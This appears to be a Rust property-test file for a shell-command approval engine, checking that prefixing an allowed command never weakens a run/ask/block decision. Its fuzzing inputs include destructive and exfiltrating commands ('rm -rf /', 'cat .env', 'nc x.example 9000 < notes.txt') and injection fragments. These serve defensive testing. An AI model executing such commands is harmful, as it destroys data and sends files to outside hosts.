//! Property: prefixing an approved command never weakens the decision.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common;

use std::sync::OnceLock;

use proptest::prelude::*;
use tool_approval::{
    Action, ApprovalMode, Hazard, Level, MatchMode, Matcher, PolicyEngine, ShellCommand,
};
use tool_core::manifest::ArgMatcher;

fn rank(action: Action) -> u8 {
    match action {
        Action::Run => 0,
        Action::Ask => 1,
        Action::Block => 2,
    }
}

/// The three engines, built once for all cases.
fn engines() -> &'static [(ApprovalMode, PolicyEngine)] {
    static ENGINES: OnceLock<Vec<(ApprovalMode, PolicyEngine)>> = OnceLock::new();
    ENGINES.get_or_init(|| {
        [
            ApprovalMode::Manual,
            ApprovalMode::AutoRun,
            ApprovalMode::Headless,
        ]
        .into_iter()
        .map(|mode| (mode, common::engine(mode)))
        .collect()
    })
}

fn shellish() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("git status".to_owned()),
        Just("git push".to_owned()),
        Just("rm -rf /".to_owned()),
        Just("rm -rf ~".to_owned()),
        Just("ls".to_owned()),
        Just("curl x".to_owned()),
        Just("cat .env".to_owned()),
        Just("&&".to_owned()),
        Just("||".to_owned()),
        Just(";".to_owned()),
        Just("|".to_owned()),
        Just("&".to_owned()),
        Just("\n".to_owned()),
        Just("$(".to_owned()),
        Just(")".to_owned()),
        Just("(".to_owned()),
        Just("`".to_owned()),
        Just("'".to_owned()),
        Just("\"".to_owned()),
        Just("\\".to_owned()),
        Just(">".to_owned()),
        Just("<<EOF".to_owned()),
        Just("#".to_owned()),
        Just("X=1".to_owned()),
        Just("bash -c".to_owned()),
        Just("eval".to_owned()),
        Just("timeout 5".to_owned()),
        "[a-z./~*-]{1,8}",
    ];
    prop_oneof![
        proptest::collection::vec(piece, 0..8).prop_map(|p| p.join(" ")),
        any::<String>(),
        "[ -~]{0,40}",
    ]
}

/// The property's check of one `X`: `ALLOWED && X` (and the `;` and
/// newline forms) is never weaker than `X` alone, in every mode.
fn never_weaker(x: &str) -> Result<(), TestCaseError> {
    for (mode, engine) in engines() {
        let alone = common::run_command(engine, x);
        // `ALLOWED && X` is the property as specified. The `;` and newline
        // forms are checked too, except for an X that is empty or only a
        // comment: alone it asks (nothing to approve), while `git status; `
        // is just `git status`.
        let no_op = ShellCommand::parse(x).hazards().contains(&Hazard::Empty);
        let prefixes: &[&str] = if no_op {
            &["git status && "]
        } else {
            &["git status && ", "git status; ", "ls -la\n"]
        };
        for prefix in prefixes {
            let text = format!("{prefix}{x}");
            let joined = common::run_command(engine, &text);
            let unreadable = ShellCommand::parse(&text)
                .hazards()
                .contains(&Hazard::Syntax);
            if (joined.reason.level == Level::Limits || unreadable) && alone.action != Action::Run {
                // The joined text cannot be read as surely as X alone
                // (the parser recovers differently): the engine says so
                // and asks (blocks in headless mode) instead of applying
                // a rule it cannot be sure of. It never runs.
                prop_assert_ne!(
                    joined.action,
                    Action::Run,
                    "{:?}: `{}` {:?} vs {:?}",
                    mode,
                    text,
                    joined,
                    alone
                );
                if *mode == ApprovalMode::Headless {
                    prop_assert_eq!(joined.action, Action::Block, "`{}` {:?}", text, joined);
                }
                continue;
            }
            if alone.reason.rule.as_deref() == Some("limits/unparsed-text")
                && !unreadable
                && joined.reason.level != Level::Limits
            {
                // The converse: the parser recovers on the joined text
                // and not on X alone (`\ && X=1` fails alone, parses
                // after `ls -la` and a newline). X alone asks only for
                // being unreadable, and the joined text, being readable,
                // was analysed in full; there is no rule to compare.
                continue;
            }
            prop_assert!(
                rank(joined.action) >= rank(alone.action),
                "{mode:?}: `{prefix}{x}` -> {joined:?} is weaker than `{x}` -> {alone:?}"
            );
            prop_assert!(
                joined.policy >= alone.policy,
                "{mode:?}: `{prefix}{x}` {joined:?} vs {alone:?}"
            );
        }
    }
    Ok(())
}

/// Inputs the property found, kept as literal cases: each exposed a cause
/// that was fixed, not a symptom.
#[test]
fn inputs_the_property_found_stay_never_weaker() {
    for x in [
        // A redirection after a list fed the first command, not `nc`.
        "nc<*",
        "nc x.example 9000 < notes.txt",
        // The grammar reads `a | b | c && d` as a pipeline ending in a
        // list: `nc` seemed to read the pipe alone, not behind `&&`.
        "\u{e9}\\;\u{fffc}=a|=a|\u{e9}\\<-c&&nc",
        "git log | sort | uniq -c && nc -z localhost 22",
        // A word that is only an escaped blank: the grammar read it as a
        // blank (an error alone, a vanished word after a newline), Bash as
        // a command word; then a command that is only a redirection.
        "\\ && > ls",
        "\\ ",
        "\\\t| ls",
        "echo \\ ",
        "x=\\  ls",
        "\\  ls > f",
        // Commands that are only a redirection, in lists and pipelines.
        "> ls",
        "> f && ls",
        "ls && > f",
        ">f | ls",
        "< notes.txt && nc x.example 9000",
        "> git push",
        "\\\t&& > f || > g",
    ] {
        never_weaker(x).unwrap();
    }
}

proptest! {
    // `PROPTEST_CASES` raises the count for a long local run.
        #![proptest_config(ProptestConfig {
            // Seeds beside this file (`MODULE.proptest-regressions`): the
            // default would look beside the binary's `main.rs`, in
            // `tests/proptest-regressions/`.
            failure_persistence: Some(Box::new(
                proptest::test_runner::FileFailurePersistence::WithSource("proptest-regressions"),
            )),
            ..ProptestConfig::with_cases(
                std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(1000)
            )
        })]

    #[test]
    fn allowed_and_x_is_never_weaker_than_x(x in shellish()) {
        never_weaker(&x)?;
    }

    #[test]
    fn parser_and_matchers_never_panic(x in any::<String>(), p in any::<String>()) {
        let _ = ShellCommand::parse(&x);
        if let Ok(m) = Matcher::compile(&ArgMatcher::Pattern(p)) {
            let v = serde_json::Value::String(x);
            let _ = m.matches(&v, MatchMode::Approve);
            let _ = m.matches(&v, MatchMode::Trigger);
        }
    }
}
